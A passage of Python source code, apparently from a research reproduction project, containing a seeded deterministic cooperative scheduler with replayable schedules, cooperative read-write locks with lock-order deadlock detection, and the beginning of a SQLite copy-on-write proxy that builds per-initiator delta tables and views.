mounts/am/cow/volatile carry ``SCHED.yield_point(...)`` calls, gated to
nothing when the plane is off) and a seeded ``random.Random`` picks
which runnable task resumes next. The seed therefore fully determines
the interleaving, the same way ``repro.faults`` seeds determine fault
schedules.

Every decision is recorded as ``(step, task, point)`` where *point* is
the yield point the task is resuming from. The newline-joined decision
lines are the **schedule**; their sha256 is the **schedule digest** —
counter-free (no pids, no wall-clock), so two runs of the same workload
from the same seed produce byte-identical schedules, and a recorded
schedule replays any run (including a found S1-S4 violation) exactly,
via ``run(..., replay=[task names...])``. Replay tolerates perturbed or
truncated schedules: a recorded choice that is not runnable (or an
exhausted schedule) falls back to the lexicographically first runnable
task and bumps ``divergences``.

Time is virtual: the clock advances ``tick_ms`` per decision and jumps
forward when every live task is sleeping. ``sleep()`` and the
``deadline()`` context manager are therefore deterministic, which is
what makes bounded-retry backoff on binder delegate calls replayable.

The reactor also context-switches the two process-global "registers"
the observability plane keeps — the tracer's open-span stack and the
provenance ledger's actor stack — so concurrent tasks cannot corrupt
each other's span parentage or taint attribution.
"""

from __future__ import annotations

import hashlib
import random
import threading
from contextlib import contextmanager
from dataclasses import dataclass, field
from typing import (
    Any,
    Callable,
    Dict,
    Iterator,
    List,
    Optional,
    Sequence,
    Set,
    Tuple,
    Union,
)

from repro.errors import DelegateTimeout
from repro.obs import obs_contexts
from repro.sched.locks import DeadlockError, LockOrderChecker, RWLock

__all__ = [
    "SCHED",
    "DeterministicScheduler",
    "SchedTask",
    "SchedulerRun",
    "schedule_bytes",
    "schedule_digest",
]

Decision = Tuple[int, str, str]


def schedule_bytes(decisions: Sequence[Decision]) -> bytes:
    """The canonical wire form: one ``"{step} {task} {point}"`` line per
    decision. Counter-free by construction — task names and yield-point
    names carry no pids or timestamps."""
    return b"\n".join(
        f"{step} {task} {point}".encode() for step, task, point in decisions
    )


def schedule_digest(decisions: Sequence[Decision]) -> str:
    return hashlib.sha256(schedule_bytes(decisions)).hexdigest()


class _TaskAbort(BaseException):
    """Internal: unwinds an unfinished task thread during teardown.

    A ``BaseException`` so no simulation-level ``except ReproError`` (or
    even ``except Exception``) can swallow it."""


class SchedTask:
    """One cooperative task: a name, a callable, and its parked state."""

    def __init__(self, name: str, fn: Callable[[], Any]) -> None:
        self.name = name
        self.fn = fn
        self.thread: Optional[threading.Thread] = None
        self.resume = threading.Event()
        self.done = False
        self.result: Any = None
        self.error: Optional[BaseException] = None
        #: the yield point this task is currently parked at (recorded
        #: into the schedule when it is resumed).
        self.last_point = "start"
        #: virtual-clock instant a sleep ends, or None.
        self.wake_at: Optional[float] = None
        #: (mode, RWLock) while parked on a cooperative lock acquire.
        self.waiting: Optional[Tuple[str, RWLock]] = None
        #: stack of absolute virtual-clock deadlines (deadline() nesting).
        self.deadlines: List[float] = []
        self.timed_out = False
        #: locks currently held, in acquisition order: (RWLock, mode).
        self.held_locks: List[Tuple[RWLock, str]] = []
        #: saved per-task "registers": every live ObsContext's tracer span
        #: stack and provenance actor stack, swapped in/out at each
        #: dispatch. Keyed per context so two devices capturing
        #: concurrently cannot clobber each other's stacks; a context not
        #: yet in the map starts the task from empty stacks.
        self.trace_stacks: Dict[Any, List[Any]] = {}
        self.actor_stacks: Dict[Any, List[Any]] = {}
        self.aborted = False

    def __repr__(self) -> str:  # pragma: no cover - debugging aid
        return f"SchedTask({self.name!r}, at={self.last_point!r}, done={self.done})"


@dataclass
class SchedulerRun:
    """Everything one scheduled run produced."""

    seed: Optional[int]
    decisions: List[Decision]
    clock: float
    results: Dict[str, Any]
    errors: Dict[str, BaseException]
    divergences: int
    lock_order: LockOrderChecker
    race_candidates: List[Tuple[str, str, str]] = field(default_factory=list)

    def schedule(self) -> List[str]:
        """The task-name sequence — the replayable part of the schedule."""
        return [task for _step, task, _point in self.decisions]

    def schedule_bytes(self) -> bytes:
        return schedule_bytes(self.decisions)

    def digest(self) -> str:
        return schedule_digest(self.decisions)

    def render(self) -> str:
        lines = [
            f"schedule: seed={self.seed} decisions={len(self.decisions)} "
            f"vclock={self.clock:g}ms divergences={self.divergences} "
            f"digest={self.digest()[:16]}"
        ]
        for step, task, point in self.decisions:
            lines.append(f"  {step:4d} {task} @ {point}")
        return "\n".join(lines)


class DeterministicScheduler:
    """The global reactor; one instance (``SCHED``) per process.

    ``enabled`` is the zero-cost gate every instrumented kernel boundary
    checks before calling :meth:`yield_point`."""

    def __init__(self) -> None:
        self.enabled = False
        self.clock = 0.0
        self.tick_ms = 1.0
        self.lock_order = LockOrderChecker()
        self._tasks: List[SchedTask] = []
        self._current: Optional[SchedTask] = None
        self._wake = threading.Event()
        self._rng: Optional[random.Random] = None
        self._replay: Optional[List[str]] = None
        self._replay_index = 0
        self._decisions: List[Decision] = []
        self._divergences = 0
        #: resource -> deduped {(task, rw, frozenset-of-held-lock-names)}
        self._accesses: Dict[str, Set[Tuple[str, str, frozenset]]] = {}
        # -- flight-recorder taps (empty lists until a recorder arms) ----
        #: ``fn(step, task_name, point)`` per scheduling decision.
        self._decision_listeners: List[Callable[[int, str, str], None]] = []
        #: ``fn(kind, report)`` on a run-killing trigger (deadlock).
        self._trigger_listeners: List[Callable[[str, str], None]] = []
        #: ``fn(task, lock, mode, action)`` on RWLock grant/release.
        self._lock_listeners: List[Callable[..., None]] = []
        #: replay-to-anchor: set via :meth:`request_stop`; the loop exits
        #: at its next decision and teardown aborts the remaining tasks.
        self._stop_requested = False

    # -- listener taps ----------------------------------------------------

    def add_decision_listener(self, fn: Callable[[int, str, str], None]) -> None:
        if fn not in self._decision_listeners:
            self._decision_listeners.append(fn)

    def remove_decision_listener(self, fn: Callable[[int, str, str], None]) -> None:
        if fn in self._decision_listeners:
            self._decision_listeners.remove(fn)

    def add_trigger_listener(self, fn: Callable[[str, str], None]) -> None:
        if fn not in self._trigger_listeners:
            self._trigger_listeners.append(fn)

    def remove_trigger_listener(self, fn: Callable[[str, str], None]) -> None:
        if fn in self._trigger_listeners:
            self._trigger_listeners.remove(fn)

    def add_lock_listener(self, fn: Callable[..., None]) -> None:
        if fn not in self._lock_listeners:
            self._lock_listeners.append(fn)

    def remove_lock_listener(self, fn: Callable[..., None]) -> None:
        if fn in self._lock_listeners:
            self._lock_listeners.remove(fn)

    def request_stop(self) -> None:
        """Stop scheduling at the next decision (replay-to-anchor halt).

        Pending tasks are aborted by the normal teardown path, so a run
        halted at an anchor leaks no threads and no held locks."""
        self._stop_requested = True

    # -- task-side API (called from inside scheduled tasks) --------------

    def current_task(self) -> Optional[SchedTask]:
        task = self._current
        if task is not None and threading.current_thread() is task.thread:
            return task
        return None

    def yield_point(self, point: str, **ctx: Any) -> None:
        """Hand control back to the reactor at a named kernel boundary.

        No-op when called outside a scheduled task, so instrumented code
        needs only the ``if SCHED.enabled:`` gate. ``resource=`` /
        ``rw=`` annotations feed the unsynchronized-shared-access
        detector; other keyword context is accepted and ignored (it
        documents the site without entering the digest)."""
        task = self.current_task()
        if task is None:
            return
        resource = ctx.get("resource")
        if resource is not None:
            self._note_access(task, str(resource), str(ctx.get("rw", "r")))
        task.last_point = point
        self._switch(task)
        self._raise_if_expired(task, point)

    def sleep(self, ms: float) -> None:
        """Park until the virtual clock reaches ``now + ms``."""
        task = self.current_task()
        if task is None:
            return
        task.wake_at = self.clock + ms
        task.last_point = f"sleep:{ms:g}"
        try:
            self._switch(task)
        finally:
            task.wake_at = None
        self._raise_if_expired(task, task.last_point)

    @contextmanager
    def deadline(self, ms: float) -> Iterator[None]:
        """Bound the enclosed block to ``ms`` virtual milliseconds; any
        yield point crossed after expiry raises DelegateTimeout."""
        task = self.current_task()
        if task is None:
            yield
            return
        task.deadlines.append(self.clock + ms)
        try:
            yield
        finally:
            task.deadlines.pop()
            task.timed_out = False

    def block_on_lock(self, task: SchedTask, lock: RWLock, mode: str) -> None:
        """Cooperatively wait until ``lock`` is grantable in ``mode``."""
        while not lock._grantable(mode, task):
            task.waiting = (mode, lock)
            task.last_point = f"lock.{mode}:{lock.name}"
            try:
                self._switch(task)
            finally:
                task.waiting = None
            if task.timed_out:
                task.timed_out = False
                raise DelegateTimeout(
                    f"virtual deadline exceeded waiting for lock "
                    f"{lock.name!r} (t={self.clock:g}ms, held by {lock.holders()})"
                )

    # -- driver-side API --------------------------------------------------

    def run(
        self,
        tasks: Union[Dict[str, Callable[[], Any]], Sequence[Tuple[str, Callable[[], Any]]]],
        *,
        seed: Optional[int] = 0,
        replay: Optional[Sequence[str]] = None,
        reraise: bool = True,
        max_decisions: int = 200_000,
    ) -> SchedulerRun:
        """Run every task to completion under one deterministic schedule.

        ``seed`` drives the interleaving unless ``replay`` (a recorded
        task-name sequence) is given, in which case the recorded choices
        are followed with a deterministic fallback on divergence. Task
        errors are re-raised after the run unless ``reraise=False`` (the
        sweep wants the full SchedulerRun even for erroring tracks)."""
        if self.enabled:
            raise RuntimeError("the deterministic scheduler is not reentrant")
        items = list(tasks.items()) if isinstance(tasks, dict) else list(tasks)
        names = [name for name, _fn in items]
        if len(set(names)) != len(names):
            raise ValueError(f"task names must be unique: {names}")
        self._tasks = [SchedTask(name, fn) for name, fn in items]
        self.clock = 0.0
        self._decisions = []
        self._divergences = 0
        self._rng = random.Random(seed)
        self._replay = list(replay) if replay is not None else None
        self._replay_index = 0
        self._stop_requested = False
        self.lock_order = LockOrderChecker()
        self._accesses = {}
        # Each task starts from empty span/actor stacks (a task models a
        # fresh process flow, not a continuation of the driver's spans);
        # the driver's own stacks are restored afterwards. Every live
        # ObsContext is covered, so a multi-device run keeps each device's
        # capture isolated across task switches.
        contexts = obs_contexts()
        outer_state = {
            ctx: (ctx.tracer._stack[:], ctx.provenance._actors[:])
            for ctx in contexts
        }
        self.enabled = True
        self._wake.clear()
        for task in self._tasks:
            task.thread = threading.Thread(
                target=self._task_main,
                args=(task,),
                name=f"sched:{task.name}",
                daemon=True,
            )
            task.thread.start()
        try:
            self._loop(max_decisions)
        finally:
            self._teardown()
            for ctx, (spans, actors) in outer_state.items():
                ctx.tracer._stack[:] = spans
                ctx.provenance._actors[:] = actors
            self._current = None
            self.enabled = False
        run = SchedulerRun(
            seed=seed if replay is None else None,
            decisions=list(self._decisions),
            clock=self.clock,
            results={t.name: t.result for t in self._tasks if t.error is None},
            errors={t.name: t.error for t in self._tasks if t.error is not None},
            divergences=self._divergences,
            lock_order=self.lock_order,
            race_candidates=self.race_candidates(),
        )
        if reraise:
            for task in self._tasks:
                if task.error is not None:
                    raise task.error
        return run

    # -- unsynchronized-shared-access detection ---------------------------

    def _note_access(self, task: SchedTask, resource: str, rw: str) -> None:
        held = frozenset(lock.name for lock, _mode in task.held_locks)
        self._accesses.setdefault(resource, set()).add((task.name, rw, held))

    def race_candidates(self) -> List[Tuple[str, str, str]]:
        """Resources where two different tasks collided (at least one
        writing) while holding no lock in common — unsynchronized shared
        state the lock discipline failed to cover."""
        flagged: List[Tuple[str, str, str]] = []
        for resource in sorted(self._accesses):
            accesses = sorted(self._accesses[resource])
            hit = None
            for ti, rwi, hi in accesses:
                if rwi != "w":
                    continue
                for tj, _rwj, hj in accesses:
                    if tj != ti and not (hi & hj):
                        hit = (resource, *sorted((ti, tj)))
                        break
                if hit:
                    break
            if hit:
                flagged.append(hit)
        return flagged

    # -- reactor loop ------------------------------------------------------

    def _expired(self, task: SchedTask) -> bool:
        return bool(task.deadlines) and self.clock > task.deadlines[-1]

    def _loop(self, max_decisions: int) -> None:
        step = 0
        while True:
            if self._stop_requested:
                return
            pending = [t for t in self._tasks if not t.done]
            if not pending:
                return
            runnable: List[SchedTask] = []
            for task in pending:
                if task.waiting is not None:
                    mode, lock = task.waiting
                    if lock._grantable(mode, task):
                        runnable.append(task)
                    elif self._expired(task):
                        task.timed_out = True
                        runnable.append(task)
                elif task.wake_at is not None:
                    if task.wake_at <= self.clock:
                        runnable.append(task)
                    elif self._expired(task):
                        task.timed_out = True
                        runnable.append(task)
                else:
                    runnable.append(task)
            if not runnable:
                sleepers = [t for t in pending if t.wake_at is not None]
                if sleepers:
                    # Nothing to do until the earliest sleeper wakes:
                    # deterministic virtual-clock jump.
                    self.clock = min(t.wake_at for t in sleepers)
                    continue
                report = self._deadlock_report(pending)
                if self._trigger_listeners:
                    for listener in self._trigger_listeners:
                        listener("deadlock", report)
                raise DeadlockError(report)
            if step >= max_decisions:
                raise RuntimeError(
                    f"scheduler exceeded {max_decisions} decisions "
                    f"(livelock? last points: "
                    f"{[(t.name, t.last_point) for t in pending]})"
                )
            chosen = self._choose(runnable)
            self._decisions.append((step, chosen.name, chosen.last_point))
            if self._decision_listeners:
                for listener in self._decision_listeners:
                    listener(step, chosen.name, chosen.last_point)
            step += 1
            self.clock += self.tick_ms
            self._dispatch(chosen)

    def _choose(self, runnable: List[SchedTask]) -> SchedTask:
        runnable = sorted(runnable, key=lambda t: t.name)
        if self._replay is not None:
            if self._replay_index < len(self._replay):
                wanted = self._replay[self._replay_index]
                self._replay_index += 1
                for task in runnable:
                    if task.name == wanted:
                        return task
            self._divergences += 1
            return runnable[0]
        assert self._rng is not None
        return self._rng.choice(runnable)

    def _dispatch(self, task: SchedTask) -> None:
        # Swap in the task's saved stacks for every live context (a
        # context the task has never run under starts empty), run one
        # slice, then park the stacks again. Contexts created mid-run
        # (rare: a Device built inside a task) are picked up here because
        # the registry is re-read at each dispatch.
        contexts = obs_contexts()
        for ctx in contexts:
            ctx.tracer._stack[:] = task.trace_stacks.get(ctx, [])
            ctx.provenance._actors[:] = task.actor_stacks.get(ctx, [])
        self._wake.clear()
        self._current = task
        task.resume.set()
        self._wake.wait()
        self._current = None
        for ctx in contexts:
            task.trace_stacks[ctx] = ctx.tracer._stack[:]
            task.actor_stacks[ctx] = ctx.provenance._actors[:]

    def _switch(self, task: SchedTask) -> None:
        if task.aborted:
            raise _TaskAbort()
        task.resume.clear()
        self._wake.set()
        task.resume.wait()
        if task.aborted:
            raise _TaskAbort()

    def _raise_if_expired(self, task: SchedTask, point: str) -> None:
        if task.timed_out or self._expired(task):
            task.timed_out = False
            raise DelegateTimeout(
                f"virtual deadline exceeded at {point!r} (t={self.clock:g}ms)"
            )

    def _task_main(self, task: SchedTask) -> None:
        task.resume.wait()
        if not task.aborted:
            try:
                task.result = task.fn()
            except _TaskAbort:
                pass
            except BaseException as error:  # noqa: BLE001 - reported to driver
                task.error = error
        for lock, mode in list(task.held_locks):
            lock._release(task, mode)
        task.held_locks.clear()
        task.done = True
        self._wake.set()

    def _teardown(self) -> None:
        """Abort and join every unfinished task, one at a time, so a
        failed run leaks no threads and no held locks."""
        for task in self._tasks:
            if task.done or task.thread is None:
                continue
            task.aborted = True
            task.resume.set()
            task.thread.join(timeout=10.0)
        for task in self._tasks:
            if task.thread is not None:
                task.thread.join(timeout=10.0)

    def _deadlock_report(self, pending: List[SchedTask]) -> str:
        lines = ["deadlock: every live task is parked on an ungrantable lock"]
        for task in pending:
            if task.waiting is not None:
                mode, lock = task.waiting
                lines.append(
                    f"  {task.name} waits {mode}:{lock.name} "
                    f"held by {lock.holders()}"
                )
            else:  # pragma: no cover - defensive
                lines.append(f"  {task.name} at {task.last_point}")
        cycles = self.lock_order.potential_deadlocks()
        if cycles:
            for cycle in cycles:
                lines.append(f"  lock-order cycle: {' -> '.join(cycle + cycle[:1])}")
        return "\n".join(lines)


#: The process-global reactor; instrumented kernel boundaries gate on
#: ``SCHED.enabled`` exactly like ``OBS.enabled`` / ``FAULTS.enabled``.
SCHED = DeterministicScheduler()
