"""Read-write locks and the lock-order checker for the reactor.

The simulation is single-threaded *between* scheduler runs, so every
lock here is a no-op unless the deterministic scheduler is live and the
caller is one of its tasks — instrumented kernel paths stay zero-cost
when the plane is off. Under the scheduler, acquisition blocks
*cooperatively*: the task parks at a yield point and the reactor only
resumes it once the lock is grantable (or its virtual deadline burns
down, surfacing :class:`~repro.errors.DelegateTimeout`).

The :class:`LockOrderChecker` records every held-while-acquiring edge
into a lock-order graph; a cycle in that graph is a *potential*
deadlock even if this particular schedule never wedged. An actual wedge
(every live task parked on an ungrantable lock) raises
:class:`DeadlockError` from the reactor with the full wait-for report.
"""

from __future__ import annotations

from contextlib import contextmanager
from typing import Dict, Iterator, List, Optional, Set, Tuple

__all__ = ["DeadlockError", "LockOrderChecker", "RWLock"]


class DeadlockError(RuntimeError):
    """Every live task is parked on a lock nobody will ever release.

    Deliberately *not* a :class:`~repro.errors.ReproError`: a deadlock
    is a scheduler-level wedge of the whole run, not an outcome any one
    simulated op can absorb."""


class LockOrderChecker:
    """Collects the lock-order graph and flags cycles in it.

    An edge ``A -> B`` means some task acquired ``B`` while holding
    ``A``. Two tasks taking the same pair in opposite orders close a
    cycle — the classic ABBA deadlock — which this reports even when
    the observed schedule happened not to interleave them fatally."""

    def __init__(self) -> None:
        #: (held.name, acquired.name) -> task names that created the edge
        self._edges: Dict[Tuple[str, str], Set[str]] = {}

    def on_acquire(self, task, lock: "RWLock") -> None:
        for held, _mode in task.held_locks:
            if held is lock:
                continue
            self._edges.setdefault((held.name, lock.name), set()).add(task.name)

    def edges(self) -> List[Tuple[str, str]]:
        return sorted(self._edges)

    def potential_deadlocks(self) -> List[Tuple[str, ...]]:
        """Every distinct cycle in the order graph, each rotated so the
        lexicographically smallest lock name leads (stable across runs)."""
        graph: Dict[str, Set[str]] = {}
        for a, b in self._edges:
            graph.setdefault(a, set()).add(b)
        cycles: Set[Tuple[str, ...]] = set()

        def visit(node: str, path: List[str], on_path: Set[str]) -> None:
            for succ in sorted(graph.get(node, ())):
                if succ in on_path:
                    core = path[path.index(succ):]
                    pivot = core.index(min(core))
                    cycles.add(tuple(core[pivot:] + core[:pivot]))
                    continue
                path.append(succ)
                on_path.add(succ)
                visit(succ, path, on_path)
                on_path.discard(succ)
                path.pop()

        for start in sorted(graph):
            visit(start, [start], {start})
        return sorted(cycles)

    def report(self) -> str:
        lines = [f"lock-order edges: {len(self._edges)}"]
        for a, b in self.edges():
            tasks = ",".join(sorted(self._edges[(a, b)]))
            lines.append(f"  {a} -> {b}  [{tasks}]")
        for cycle in self.potential_deadlocks():
            lines.append(f"  POTENTIAL DEADLOCK: {' -> '.join(cycle + cycle[:1])}")
        return "\n".join(lines)


class RWLock:
    """A reader-writer lock cooperating with the deterministic scheduler.

    Reentrant per task; many concurrent readers; one writer excluding
    foreign readers *and* writers; a task that is the sole reader may
    upgrade to writer. Outside a scheduled task every acquire is a
    no-op — the single-threaded simulation needs no locking and the
    instrumented call sites must cost nothing there."""

    def __init__(self, name: str) -> None:
        self.name = name
        self._readers: Dict[object, int] = {}
        self._writer: Optional[object] = None
        self._writer_depth = 0

    # -- state inspection (used by the reactor's runnable scan) ----------

    def _grantable(self, mode: str, task) -> bool:
        if mode == "r":
            return self._writer is None or self._writer is task
        foreign_reader = any(t is not task for t in self._readers)
        return not foreign_reader and (self._writer is None or self._writer is task)

    def holders(self) -> List[str]:
        names = sorted(
            f"r:{getattr(t, 'name', '?')}" for t in self._readers
        )
        if self._writer is not None:
            names.append(f"w:{getattr(self._writer, 'name', '?')}")
        return names

    # -- acquisition -----------------------------------------------------

    @contextmanager
    def read(self) -> Iterator[None]:
        task = self._task()
        if task is None:
            yield
            return
        self._acquire(task, "r")
        try:
            yield
        finally:
            self._release(task, "r")

    @contextmanager
    def write(self) -> Iterator[None]:
        task = self._task()
        if task is None:
            yield
            return
        self._acquire(task, "w")
        try:
            yield
        finally:
            self._release(task, "w")

    # -- internals -------------------------------------------------------

    @staticmethod
    def _task():
        from repro.sched.reactor import SCHED

        if not SCHED.enabled:
            return None
        return SCHED.current_task()

    def _acquire(self, task, mode: str) -> None:
        from repro.sched.reactor import SCHED

        # Record the order edge at the *attempt*, not the grant: a task
        # wedged forever on its second lock is exactly the acquisition
        # the cycle report must know about.
        SCHED.lock_order.on_acquire(task, self)
        if not self._grantable(mode, task):
            SCHED.block_on_lock(task, self, mode)
        if mode == "r":
            self._readers[task] = self._readers.get(task, 0) + 1
        else:
            self._writer = task
            self._writer_depth += 1
        task.held_locks.append((self, mode))
        if SCHED._lock_listeners:
            for listener in SCHED._lock_listeners:
                listener(task, self, mode, "acquire")

    def _release(self, task, mode: str) -> None:
        entry = (self, mode)
        if entry in task.held_locks:
            task.held_locks.remove(entry)
        if mode == "r":
            count = self._readers.get(task, 0) - 1
            if count <= 0:
                self._readers.pop(task, None)
            else:
                self._readers[task] = count
        else:
            self._writer_depth -= 1
            if self._writer_depth <= 0:
                self._writer = None
                self._writer_depth = 0
