"""Deterministic concurrency kernel: seeded cooperative scheduler.

``SCHED`` is the process-global reactor, gated exactly like ``OBS`` and
``FAULTS``: every instrumented kernel boundary checks ``SCHED.enabled``
before touching the plane, so the single-threaded simulation pays
nothing when no scheduled run is live. See :mod:`repro.sched.reactor`
for the task model and :mod:`repro.sched.locks` for the cooperative
read-write locks and lock-order checker.
"""

from repro.sched.locks import DeadlockError, LockOrderChecker, RWLock
from repro.sched.reactor import (
    SCHED,
    DeterministicScheduler,
    SchedTask,
    SchedulerRun,
    schedule_bytes,
    schedule_digest,
)

__all__ = [
    "SCHED",
    "DeadlockError",
    "DeterministicScheduler",
    "LockOrderChecker",
    "RWLock",
    "SchedTask",
    "SchedulerRun",
    "schedule_bytes",
    "schedule_digest",
]
