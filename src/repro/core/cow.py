"""The SQLite copy-on-write proxy layer (paper section 5.2).

System content providers sit on top of this proxy instead of using the
database directly. It implements *unilateral per-row, per-initiator
copy-on-write*:

- Each provider-defined table is a **primary table**; it only ever holds
  public data (``Pub(all)``).
- The first volatile record for initiator ``A`` creates a **delta table**
  ``<table>_delta_<A>`` with the primary table's columns plus a
  ``_whiteout`` flag, and a **COW view** ``<table>_view_<A>`` defined as::

      SELECT cols FROM <table>
          WHERE <pk> NOT IN (SELECT <pk> FROM <table>_delta_<A>)
      UNION ALL
      SELECT cols FROM <table>_delta_<A> WHERE _whiteout = 0

  plus ``INSTEAD OF`` triggers that confine the delegate's INSERT, UPDATE
  and DELETE to the delta table (deletes become whiteout records).
- New rows inserted by delegates get primary keys starting at a large
  offset ``N`` so they never collide with public rows.
- Provider-defined SQL views get per-initiator COW views whose definitions
  are the originals with base tables replaced by COW views; the proxy
  maintains the hierarchy (a view over a view works).
- The **administrative view** exposes primary plus all delta rows with a
  ``_state`` column, for providers with background work (Downloads, Media).

The proxy also implements the footnote-5 workaround: when a query over a
COW view has an ORDER BY whose columns are not in the projection, SQLite
3.8.6 would refuse to flatten the UNION ALL subquery; the proxy widens the
projection with the ORDER BY columns and strips them from the result.
"""

from __future__ import annotations

import base64
import copy
import json
import re
from dataclasses import dataclass, field
from typing import Dict, List, Optional, Sequence, Set, Tuple

from repro.errors import SqlNameError
from repro.faults import FAULTS as _FAULTS
from repro.minisql import Database
from repro.minisql import ast_nodes as ast
from repro.minisql.engine import ResultSet
from repro.minisql.parser import parse
from repro.obs import OBS as _OBS
from repro.sched import SCHED as _SCHED

#: Primary keys allocated for delegate inserts start here (paper: "the
#: delta table's primary key starts at a large number N").
VOLATILE_PK_BASE = 10_000_001

#: The proxy's commit intent journal (WAL). Rows describe selective
#: commits that have been decided but not yet fully applied to the primary
#: table; ``recover()`` replays sealed rows and rolls back unsealed ones.
JOURNAL_TABLE = "_maxoid_journal"


def _encode_payload(record: Dict[str, object]) -> str:
    """JSON-encode a row for the journal; bytes round-trip via base64."""
    def enc(value):
        if isinstance(value, bytes):
            return {"__bytes__": base64.b64encode(value).decode("ascii")}
        return value

    return json.dumps({k: enc(v) for k, v in record.items()})


def _decode_payload(text: str) -> Dict[str, object]:
    out: Dict[str, object] = {}
    for key, value in json.loads(text).items():
        if isinstance(value, dict) and "__bytes__" in value:
            value = base64.b64decode(value["__bytes__"])
        out[key] = value
    return out


def initiator_key(initiator: str) -> str:
    """Sanitize an initiator package name for use in SQL object names."""
    return re.sub(r"\W", "_", initiator)


@dataclass
class _PrimaryTable:
    name: str
    columns: List[str]
    pk: str


@dataclass
class _UserView:
    name: str
    select_sql: str
    bases: List[str]  # names of tables/views this view is defined over


@dataclass
class CowStats:
    """Counters consumed by the microbenchmarks and ablations."""

    delta_tables_created: int = 0
    cow_views_created: int = 0
    volatile_inserts: int = 0
    volatile_updates: int = 0
    volatile_deletes: int = 0
    order_by_workarounds: int = 0


class CowProxy:
    """Copy-on-write proxy over one provider database."""

    def __init__(
        self, db: Optional[Database] = None, obs: Optional[object] = None
    ) -> None:
        # The owning device's observability context; bind_obs() re-homes a
        # proxy constructed before its device existed (system providers).
        self.obs = obs if obs is not None else _OBS
        self.db = db if db is not None else Database(obs=self.obs)
        self._tables: Dict[str, _PrimaryTable] = {}
        self._user_views: Dict[str, _UserView] = {}
        # (object name, initiator key) pairs that already have COW machinery.
        self._materialized: Set[Tuple[str, str]] = set()
        self.stats = CowStats()

    def bind_obs(self, obs: object) -> None:
        """Attach this proxy (and its database) to a device's context."""
        self.obs = obs
        self.db.obs = obs

    # ------------------------------------------------------------------
    # Schema registration (called by the content provider at creation)
    # ------------------------------------------------------------------

    def create_table(self, create_sql: str) -> str:
        """Create a primary table from a CREATE TABLE statement."""
        statement = parse(create_sql)
        if not isinstance(statement, ast.CreateTable):
            raise SqlNameError("create_table() requires a CREATE TABLE statement")
        self.db.execute(create_sql)
        pk_columns = [c.name for c in statement.columns if c.primary_key]
        if not pk_columns:
            raise SqlNameError(
                f"table {statement.name}: the COW proxy needs a primary key"
            )
        name = statement.name.lower()
        self._tables[name] = _PrimaryTable(
            name=name,
            columns=[c.name.lower() for c in statement.columns],
            pk=pk_columns[0].lower(),
        )
        return name

    def create_user_view(self, name: str, select_sql: str) -> str:
        """Register a provider-defined SQL view (e.g. Media's ``images``).

        The proxy records which registered tables/views the definition
        references so it can later build the per-initiator COW hierarchy.
        """
        select = parse(select_sql)
        if not isinstance(select, ast.Select):
            raise SqlNameError("create_user_view() requires a SELECT statement")
        bases = sorted(self._referenced_bases(select))
        self.db.execute(f"CREATE VIEW {name} AS {select_sql}")
        self._user_views[name.lower()] = _UserView(
            name=name.lower(), select_sql=select_sql, bases=bases
        )
        return name.lower()

    def _referenced_bases(self, select: ast.Select) -> Set[str]:
        bases: Set[str] = set()
        for core in select.cores:
            refs = []
            if core.source is not None:
                refs.append(core.source)
            refs.extend(join.table for join in core.joins)
            for ref in refs:
                if ref.subquery is not None:
                    bases |= self._referenced_bases(ref.subquery)
                elif ref.name is not None:
                    key = ref.name.lower()
                    if key in self._tables or key in self._user_views:
                        bases.add(key)
        return bases

    def is_registered(self, name: str) -> bool:
        """True if ``name`` is a proxy-managed table or user view."""
        key = name.lower()
        return key in self._tables or key in self._user_views

    def table_columns(self, name: str) -> List[str]:
        """Lowercased column names of a registered table or view."""
        key = name.lower()
        if key in self._tables:
            return list(self._tables[key].columns)
        if key in self._user_views:
            return [c.lower() for c in self.db.views[key].columns]
        raise SqlNameError(f"unknown table or view: {name}")

    # ------------------------------------------------------------------
    # Delta tables and COW views
    # ------------------------------------------------------------------

    def delta_name(self, table: str, initiator: str) -> str:
        """The delta-table name for (table, initiator)."""
        return f"{table.lower()}_delta_{initiator_key(initiator)}"

    def view_name(self, name: str, initiator: str) -> str:
        """The per-initiator COW-view name for a table or user view."""
        return f"{name.lower()}_view_{initiator_key(initiator)}"

    def has_delta(self, table: str, initiator: str) -> bool:
        """True once the initiator has volatile records for ``table``."""
        return self.db.has_table(self.delta_name(table, initiator))

    def _ensure_table_cow(self, table: str, initiator: str) -> str:
        """Create the delta table, COW view and triggers for ``table`` on
        demand; returns the COW view name."""
        key = (table.lower(), initiator_key(initiator))
        cow_view = self.view_name(table, initiator)
        if key in self._materialized:
            return cow_view
        primary = self._tables[table.lower()]
        delta = self.delta_name(table, initiator)
        columns_sql = []
        source = self.db.table(primary.name)
        for column in source.columns:
            decl = f"{column.name} {column.type_name}".strip()
            if column.primary_key:
                decl += " PRIMARY KEY"
            columns_sql.append(decl)
        columns_sql.append("_whiteout INTEGER DEFAULT 0")
        self.db.execute(f"CREATE TABLE {delta} ({', '.join(columns_sql)})")
        self.db.table(delta).set_autoincrement_base(VOLATILE_PK_BASE)
        cols = ", ".join(primary.columns)
        pk = primary.pk
        self.db.execute(
            f"CREATE VIEW {cow_view} AS "
            f"SELECT {cols} FROM {primary.name} "
            f"WHERE {pk} NOT IN (SELECT {pk} FROM {delta}) "
            f"UNION ALL "
            f"SELECT {cols} FROM {delta} WHERE _whiteout = 0"
        )
        new_cols = ", ".join(f"NEW.{c}" for c in primary.columns)
        old_cols = ", ".join(f"OLD.{c}" for c in primary.columns)
        non_pk = [c for c in primary.columns if c != pk]
        update_values = ", ".join(
            ["OLD." + pk] + [f"NEW.{c}" for c in non_pk] + ["0"]
        )
        update_cols = ", ".join([pk] + non_pk + ["_whiteout"])
        self.db.execute(
            f"CREATE TRIGGER {cow_view}_insert INSTEAD OF INSERT ON {cow_view} BEGIN "
            f"INSERT INTO {delta} ({cols}, _whiteout) VALUES ({new_cols}, 0); END"
        )
        self.db.execute(
            f"CREATE TRIGGER {cow_view}_update INSTEAD OF UPDATE ON {cow_view} BEGIN "
            f"INSERT OR REPLACE INTO {delta} ({update_cols}) VALUES ({update_values}); END"
        )
        self.db.execute(
            f"CREATE TRIGGER {cow_view}_delete INSTEAD OF DELETE ON {cow_view} BEGIN "
            f"INSERT OR REPLACE INTO {delta} ({cols}, _whiteout) VALUES ({old_cols}, 1); END"
        )
        self._materialized.add(key)
        self.stats.delta_tables_created += 1
        self.stats.cow_views_created += 1
        if self.obs.enabled:
            self.obs.metrics.count("cow.delta_tables_created")
            self.obs.metrics.count("cow.views_created")
            self.obs.tracer.event("cow.materialize", table=table, initiator=initiator)
        return cow_view

    def _ensure_view_cow(self, view: str, initiator: str) -> str:
        """Create the COW copy of a user-defined view (and, recursively, of
